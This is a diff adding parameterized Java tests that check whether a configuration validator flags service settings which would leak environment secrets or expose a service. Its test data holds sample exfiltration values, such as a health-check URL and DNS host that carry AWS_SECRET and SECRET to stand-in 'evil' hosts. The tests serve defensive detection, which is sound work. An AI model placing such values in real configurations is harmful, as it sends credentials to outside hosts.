@@ -173,9 +173,35 @@ class BoundsTest {
     assertThat(file(text).sensitive()).hasSize(1);
   }
 
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = ';',
+      value = {
+        "health_check: {type: http, config: {url: 'http://evil/?k=${AWS_SECRET:x}'}};"
+            + " services[0].health_check.config.url: sends AWS_SECRET over the network",
+        "health_check: {type: https, config: {url: /, headers: {A: '${T:x}', B: '${U:y}${T:z}'}}};"
+            + " services[0].health_check.config.headers: sends T, U over the network",
+        "health_check: {type: tcp, config: {host: '${SECRET:x}.evil.example'}};"
+            + " services[0].health_check.config.host: sends SECRET over the network",
+        "health_check: {type: tcp, config: {port: '${PIN:80}'}};"
+            + " services[0].health_check.config.port: sends PIN over the network",
+        "bind_address: 0.0.0.0, expose: true;"
+            + " services[0].expose: lets others on the network connect"
+      })
+  void whatLeavesThisMachineOrOpensItNeedsTrustByName(String key, String refused) {
+    assertThat(file("services:\n- " + SERVICE + ", " + key + "}\n").sensitive())
+        .singleElement()
+        .asString()
+        .endsWith(refused);
+  }
+
   @Test
   void allElseNeedsNone() {
+    String plain =
+        ", description: '${ME:x}', expose: false, health_check: {type: http, config: {url:"
+            + " 'http://there/', expected_content: '${WORD:ok}'}}}\n";
     assertThat(file("services:\n- " + SERVICE + ", health_check: {type: tcp}}\n").sensitive())
         .isEqualTo(List.of());
+    assertThat(file("services:\n- " + SERVICE + plain).sensitive()).isEqualTo(List.of());
   }
 }
